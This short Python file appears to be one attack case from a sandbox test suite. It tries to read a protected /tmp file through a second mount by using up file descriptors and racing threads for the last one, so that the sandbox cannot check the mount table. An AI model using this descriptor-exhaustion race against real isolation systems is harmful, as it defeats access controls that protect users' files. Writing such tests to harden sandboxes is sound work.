# class: files
# rule: read_write_tmp
# success: a file of /tmp is read through a second mount by a process that has one fd left, for
#   which its threads race: it never has one to read the table of mounts with
# proof: read
# needs: namespace mounted
import contextlib
import os
import threading
import time

from attack import FILE, attempt


def race(over):
    while not over.is_set():
        with contextlib.suppress(OSError):
            os.close(os.dup(0))


@attempt
def steal():
    path = os.environ["ATTACK_MOUNT"] + FILE[len("/tmp") :]
    over, fd = threading.Event(), 0
    threads = [threading.Thread(target=race, args=(over,)) for _ in range(2)]
    for thread in threads:
        thread.start()
    with contextlib.suppress(OSError):
        while True:
            fd = os.dup(0)
    os.close(fd)
    end, error = time.monotonic() + 2, None
    try:
        while time.monotonic() < end:
            try:
                with open(path) as opened:
                    return opened.read()
            except OSError as refused:
                error = refused
                if isinstance(refused, PermissionError):
                    raise
        raise error
    finally:
        over.set()
        for thread in threads:
            thread.join()
